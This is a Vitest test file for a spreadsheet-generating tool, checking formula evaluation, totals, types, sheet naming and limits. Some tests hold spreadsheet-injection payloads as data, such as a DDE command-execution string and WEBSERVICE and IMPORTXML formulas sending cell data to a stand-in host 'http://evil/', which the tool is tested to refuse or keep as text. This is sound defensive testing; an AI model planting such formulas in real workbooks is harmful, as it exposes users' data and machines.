import ExcelJS from 'exceljs'
import { expect, test } from 'vitest'
import { type ToolBench, withToolBench } from '../testing/harness.ts'
import { HOSTILE } from '../testing/hostile.ts'
import { xmlParts } from '../testing/office-parts.ts'
import { generateSpreadsheet } from './generate-spreadsheet.ts'

type Input = Parameters<typeof generateSpreadsheet.run>[1]
type Loose = Parameters<ToolBench['run']>[1] & { sheets: unknown }

/** Makes the workbook and reads it back. */
async function make({ run, read }: ToolBench, sheets: unknown[], title = 'Book') {
  const { output } = await run(generateSpreadsheet, { title, sheets } as Loose as Input)
  const file = await read(output.path)
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(file as unknown as ArrayBuffer)
  return { output, book, file, sheet: book.worksheets[0]! }
}

const columns = (...headers: string[]) => headers.map((header) => ({ header }))

test('a sheet has types, formats, totals, widths and a header that stays in view', () =>
  withToolBench(async (bench) => {
    const { output, sheet, book } = await make(bench, [
      {
        name: 'Sales',
        totals: true,
        columns: [
          { header: 'Region' },
          { header: 'Day' },
          { header: 'Units', type: 'integer' },
          { header: 'Amount', type: 'currency', currency: 'USD' },
          { header: 'Share', type: 'percent' },
          { header: 'Done' },
          { header: 'Rate', total: 'average' },
        ],
        rows: [
          ['North', '2026-03-31', 120, 9.5, 0.41, true, 1.25],
          ['South', '2026-04-30', '80', 12, 0.27, false, 2.5],
        ],
      },
    ])
    expect(output).toMatchObject({ path: 'book.xlsx', sheets: [{ name: 'Sales', rows: 2 }], warnings: [] })
    expect(book.title).toBe('Book')
    expect(sheet.getCell('B2').value).toEqual(new Date('2026-03-31T00:00:00Z'))
    expect(sheet.getCell('C3').value).toBe(80)
    expect(sheet.getCell('D2').numFmt).toContain('"$"#,##0.00')
    expect(sheet.getCell('E2').numFmt).toBe('0.0%')
    expect(sheet.getCell('F2').value).toBe(true)
    expect(sheet.getCell('A4').value).toBe('Total')
    expect(sheet.getCell('C4').value).toEqual({ formula: 'SUM(C2:C3)', result: 200 })
    expect(sheet.getCell('D4').value).toEqual({ formula: 'SUM(D2:D3)', result: 21.5 })
    expect(sheet.getCell('G4').value).toEqual({ formula: 'AVERAGE(G2:G3)', result: 1.875 })
    expect(sheet.getCell('E4').value).toBeNull()
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.getCell('A1').font.bold).toBe(true)
    expect(sheet.autoFilter).toBeTruthy()
    expect(sheet.getColumn(1).width).toBeGreaterThanOrEqual(10)
  }))

test('formulas have stored values, across sheets, with later cells and through chains', () =>
  withToolBench(async (bench) => {
    const { output, book } = await make(bench, [
      {
        name: 'Calc',
        columns: [{ header: 'What' }, { header: 'Value' }, { header: 'Double', formula: 'B{row}*2' }],
        rows: [
          ['forward', { formula: '=B4+1' }],
          ['other sheet', { formula: "SUM('Data 1'!A:A)" }],
          ['base', 5],
          ['max', { formula: "MAX('data 1'!A2:A4, 2)" }],
          ['median', { formula: 'MEDIAN(1,2,3,4)' }],
          ['text', { formula: 'IF(B4>3,"big","small")&"!"' }],
          ['error', { formula: '1/(B4-5)' }],
          ['exact', { formula: '0.1+0.2' }],
        ],
      },
      { name: 'Data 1', columns: columns('N'), rows: [[1], [20], [300]] },
    ])
    const sheet = book.worksheets[0]!
    const results = [2, 3, 4, 5, 6, 7, 8, 9].map((row) => sheet.getCell(row, 2).result ?? sheet.getCell(row, 2).value)
    expect(results).toEqual([6, 321, 5, 300, 2.5, 'big!', { error: '#DIV/0!' }, 0.3])
    expect([2, 3, 4].map((row) => sheet.getCell(row, 3).result)).toEqual([12, 642, 10])
    expect(sheet.getCell('B2').formula).toBe('B4+1')
    expect(sheet.getCell('C8').result).toEqual({ error: '#DIV/0!' })
    expect(output.warnings.join()).toContain('C7')
  }))

test('a formula that cannot be computed here has no value, cells that need it neither, and a warning names them', () =>
  withToolBench(async (bench) => {
    const rows = [
      [{ formula: 'TODAY()' }],
      [{ formula: 'NORM.DIST(1,0,1,TRUE)' }],
      [{ formula: 'A2+1' }],
      [{ formula: 'SUM(A2:A4)' }],
      [{ formula: 'IFERROR(A3,0)' }],
    ]
    const { output, sheet, file } = await make(bench, [{ name: 'S', columns: columns('A'), rows }])
    const results = [2, 3, 4, 5, 6].map((row) => sheet.getCell(row, 1).result)
    expect(results).toEqual([undefined, undefined, undefined, undefined, undefined])
    expect(output.warnings).toEqual([
      'S: A2, A3, A4, A5, A6 hold formulas that Excel will compute when the file is opened; no value is stored.',
    ])
    const xml = (await xmlParts(file)).get('xl/worksheets/sheet1.xml')!
    expect(xml).toContain('_xlfn.NORM.DIST(1,0,1,TRUE)')
  }))

test.each([
  [['A3', 'A2+1'], /S!A2.* goes in a circle: S!A2 needs S!A3 needs S!A2\./],
  [['SUM(A1:A9)'], /S!A2.* goes in a circle: S!A2 needs S!A2\./],
  [['IF(A4>1,1,2)', '1', 'SUM(A2:A3)'], /goes in a circle: S!A2 needs S!A4 needs S!A2\./],
])('circular formulas are refused: %s', (formulas, message) =>
  withToolBench(async (bench) => {
    const rows = formulas.map((formula) => [{ formula }])
    const call = make(bench, [{ name: 'S', columns: columns('A'), rows }])
    await expect(call).rejects.toMatchObject({ code: 'invalid_input', message: expect.stringMatching(message) })
  }),
)

test('a formula that uses only its own position is not circular', () =>
  withToolBench(async (bench) => {
    const { sheet } = await make(bench, [
      { name: 'S', columns: columns('A'), rows: [[{ formula: 'ROW(A2)+ROWS(A1:A9)' }]] },
    ])
    expect(sheet.getCell('A2').result).toBe(11)
  }))

test('only functions get the prefix for newer functions, never names of sheets or texts', () =>
  withToolBench(async (bench) => {
    const formulas = {
      '\'Q1 IFS(North)\'!A2&"CONCAT(x)"': '\'Q1 IFS(North)\'!A2&"CONCAT(x)"',
      "COUNTIF('O''Brien''s XLOOKUP(1)'!A:A,\"IFS(*\")": "COUNTIF('O''Brien''s XLOOKUP(1)'!A:A,\"IFS(*\")",
      'concat (A1,ifs(1=1,2))': '_xlfn.CONCAT(A1,_xlfn.IFS(1=1,2))',
      '_xlfn.STDEV.S(1,2,4)+COUNT(_xlfn._xlws.SORT(A1))': '_xlfn.STDEV.S(1,2,4)+COUNT(_xlfn._xlws.SORT(A1))',
      'SUM(_xlfn._xlws.FILTER(A1:A3,A1:A3<>""))': 'SUM(_xlfn._xlws.FILTER(A1:A3,A1:A3<>""))',
      'NORM.S.DIST(1,TRUE)+FORECAST.LINEAR(1,A1:A2,A1:A2)':
        '_xlfn.NORM.S.DIST(1,TRUE)+_xlfn.FORECAST.LINEAR(1,A1:A2,A1:A2)',
      'LET(x,A1,rate,2,x*rate&"x")': '_xlfn.LET(_xlpm.x,A1,_xlpm.rate,2,_xlpm.x*_xlpm.rate&"x")',
      'SUM(MAP(A1:A3,LAMBDA(a,LEN(a))))': 'SUM(_xlfn.MAP(A1:A3,_xlfn.LAMBDA(_xlpm.a,LEN(_xlpm.a))))',
    }
    const rows = Object.keys(formulas).map((formula) => [null, { formula }])
    const { book } = await make(bench, [
      { name: 'S', columns: columns('A', 'B'), rows },
      { name: 'Q1 IFS(North)', columns: columns('A'), rows: [['x']] },
      { name: "O'Brien's XLOOKUP(1)", columns: columns('A'), rows: [['x']] },
    ])
    const written = rows.map((_, i) => book.worksheets[0]!.getCell(i + 2, 2).formula)
    expect(written).toEqual(Object.values(formulas))
  }))

test('a formula that works on arrays is written as an array formula, any other as a plain one', () =>
  withToolBench(async (bench) => {
    const formulas = ['SUM(IF(A2:A3="x",1,0))', 'SUMPRODUCT((A2:A3="x")*1)', 'SUM(A2:A3)', 'MAX((A2:A3="x")*2)']
    const rows = formulas.map((formula) => ['x', { formula }])
    const { file } = await make(bench, [{ name: 'S', columns: columns('A', 'B'), rows }])
    const xml = (await xmlParts(file)).get('xl/worksheets/sheet1.xml')!
    const written = [...xml.matchAll(/<f([^>]*)>[^<]*<\/f><v>(\d+)</g)].map(([, type, value]) => [type, value])
    expect(written).toEqual([
      [' t="array" ref="B2"', '2'],
      ['', '2'],
      ['', '0'],
      [' t="array" ref="B5"', '2'],
    ])
  }))

test('text that looks like a formula stays text, and a warning says so', () =>
  withToolBench(async (bench) => {
    const texts = ['=1+1', '+49 30 1234', '-5 apples', '@home', "=cmd|'/C calc'!A0", '\t=1', 'https://example.com']
    const { output, sheet, file } = await make(bench, [
      { name: 'S', columns: columns('Text'), rows: texts.map((text) => [text]) },
    ])
    for (const [i, text] of texts.entries()) {
      const cell = sheet.getCell(i + 2, 1)
      expect([cell.value, cell.type]).toEqual([text, ExcelJS.ValueType.String])
    }
    expect((await xmlParts(file)).get('xl/worksheets/sheet1.xml')).not.toContain('<f>')
    expect(output.warnings.join()).toMatch(/S: A2, A6.* were written as text/)
  }))

test.each([
  'WEBSERVICE("http://evil/"&A2)',
  'HYPERLINK("http://evil/","click")',
  'importxml("http://evil/","//a")',
  "cmd|'/C calc'!A0",
  '[other.xlsx]Sheet1!A1',
  'FILTER(A2:A9,B2:B9>1)',
  'A2:A9*2',
  'SORT(UNIQUE(A2:A9))',
  'revenue*2',
  'SUM(A1:A2',
  'A1+',
  'Missing!A1',
  '"unfinished',
])('the formula %s is refused', (formula) =>
  withToolBench(async (bench) => {
    const call = make(bench, [{ name: 'S', columns: columns('A', 'B'), rows: [['x', { formula }]] }])
    await expect(call).rejects.toMatchObject({ code: 'invalid_input', message: expect.stringContaining('S!B2') })
  }),
)

test('values that do not fit their column stay as they were, and a warning names them', () =>
  withToolBench(async (bench) => {
    const { output, sheet } = await make(bench, [
      {
        name: 'S',
        columns: [
          { header: 'When', type: 'date' },
          { header: 'N', type: 'number' },
        ],
        rows: [
          ['2026-02-31', 'many'],
          ['soon', 1],
        ],
      },
    ])
    expect(sheet.getCell('A2').value).toBe('2026-02-31')
    expect(sheet.getCell('B2').value).toBe('many')
    expect(output.warnings).toEqual(['S: A2, A3, B2 do not fit the type of their column and stand as they were given.'])
  }))

test('a count is a plain number in columns of money, shares, days and answers', () =>
  withToolBench(async (bench) => {
    const total = 'count'
    const { sheet } = await make(bench, [
      {
        name: 'S',
        columns: [
          { header: 'Amount', type: 'currency', total },
          { header: 'Share', type: 'percent', total },
          { header: 'Day', type: 'date', total },
          { header: 'Done', type: 'boolean', total },
          { header: 'Latest', type: 'date', total: 'max' },
        ],
        rows: [[9.5, 0.4, '2026-03-31', true, '2026-03-31']],
      },
    ])
    const totals = [1, 2, 3, 4].map((column) => sheet.getCell(3, column))
    expect(totals.map(({ numFmt, result }) => [numFmt, result])).toEqual(Array(4).fill(['#,##0', 1]))
    expect(sheet.getCell('E3').numFmt).toBe('yyyy-mm-dd')
  }))

test('ISO times with a time zone become times: unchanged for one zone, in UTC for several', () =>
  withToolBench(async (bench) => {
    const { sheet, output } = await make(bench, [
      {
        name: 'S',
        columns: [{ header: 'One zone' }, { header: 'Several' }, { header: 'Zulu' }],
        rows: [
          ['2026-03-31T14:30:00+02:00', '2026-03-31T14:30:00+02:00', '2026-03-31T14:30:00.123Z'],
          ['2026-04-01 00:15+0200', '2026-03-31T14:30:00-05:30', '2026-04-01T00:00Z'],
        ],
      },
    ])
    const times = ['A2', 'A3', 'B2', 'B3', 'C2', 'C3'].map((cell) => (sheet.getCell(cell).value as Date).toISOString())
    expect(times.map((time) => time.slice(0, 16))).toEqual([
      '2026-03-31T14:30',
      '2026-04-01T00:15',
      '2026-03-31T12:30',
      '2026-03-31T20:00',
      '2026-03-31T14:30',
      '2026-04-01T00:00',
    ])
    expect(output.warnings).toEqual(['S: Several has times of several time zones, which stand in UTC.'])
  }))

test('texts inside a formula keep their spaces', () =>
  withToolBench(async (bench) => {
    const { sheet } = await make(bench, [
      { name: 'S', columns: columns('A'), rows: [[{ formula: ' "a  b"&LEN("   ") ' }]] },
    ])
    expect(sheet.getCell('A2').value).toEqual({ formula: '"a  b"&LEN("   ")', result: 'a  b3' })
  }))

test('names of sheets are changed so that Excel accepts them', () =>
  withToolBench(async (bench) => {
    const names = ['A/B: [x]', 'a b  x', "'quoted'", 'History', 'n'.repeat(40), 'n'.repeat(50), '???']
    const { book, output } = await make(
      bench,
      names.map((name) => ({ name, columns: columns('H'), rows: [] })),
    )
    const made = book.worksheets.map(({ name }) => name)
    expect(made).toEqual([
      'A B x',
      'a b x (2)',
      'quoted',
      'History (2)',
      'n'.repeat(31),
      `${'n'.repeat(26)} (2)`,
      'Sheet',
    ])
    expect(output.warnings).toContain('Sheet "A/B: [x]" is named "A B x".')
  }))

test('hostile text in every field still gives well-formed files', () =>
  withToolBench(async (bench) => {
    const text = HOSTILE.slice(0, 60)
    const { file, sheet } = await make(bench, [{ name: text, columns: columns(text), rows: [[HOSTILE], [null]] }], text)
    await xmlParts(file)
    expect(sheet.getCell('A2').value).toContain('<a href="x">&amp;')
  }))

test('too wide rows and too large sheets are refused, and the error names the place', () =>
  withToolBench(async (bench) => {
    const wide = make(bench, [{ name: 'S', columns: columns('A'), rows: [['x'], ['x', 'y']] }])
    await expect(wide).rejects.toThrow(/has 2 cells, but there are 1 columns[\s\S]*rows\[1\]/)
    const rows = Array.from({ length: 10_000 }, () => ['x'])
    const large = make(bench, [{ name: 'S', columns: columns(...Array.from({ length: 20 }, (_, i) => `C${i}`)), rows }])
    await expect(large).rejects.toThrow(/200000 cells/)
  }))

test('a large sheet with a running sum is done in seconds', () =>
  withToolBench(async (bench) => {
    const rows = Array.from({ length: 3000 }, (_, i) => [i, i * 1.5])
    const sheetColumns = [{ header: 'N' }, { header: 'X' }, { header: 'Sum', formula: 'N(C{row})' }]
    sheetColumns[2]!.formula = 'SUM(A{row}:B{row})'
    const { sheet } = await make(bench, [{ name: 'S', columns: sheetColumns, rows, totals: true }])
    expect(sheet.getCell('C3001').result).toBe(2999 * 2.5)
    expect(sheet.getCell('C3002').result).toBe((2999 * 3000 * 2.5) / 2)
  }))
